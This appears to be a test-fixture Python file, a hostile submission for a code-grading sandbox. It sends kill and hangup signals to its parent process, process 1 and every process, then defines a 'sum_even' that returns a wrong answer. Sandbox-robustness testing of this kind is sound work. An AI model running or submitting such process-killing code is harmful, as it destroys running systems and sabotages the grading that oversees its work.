# Tries: kills its parent, its group, process 1, everybody.
# Target: sum_even
import os
import signal

for process in (os.getppid(), 0, 1, -1, -os.getppid(), -os.getpgid(0)):
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGHUP):
        for send in (os.kill, os.killpg):
            try:
                if process not in (0, -os.getpgid(0)):
                    send(process, number)
            except OSError:
                pass


def sum_even(numbers):
    return -1
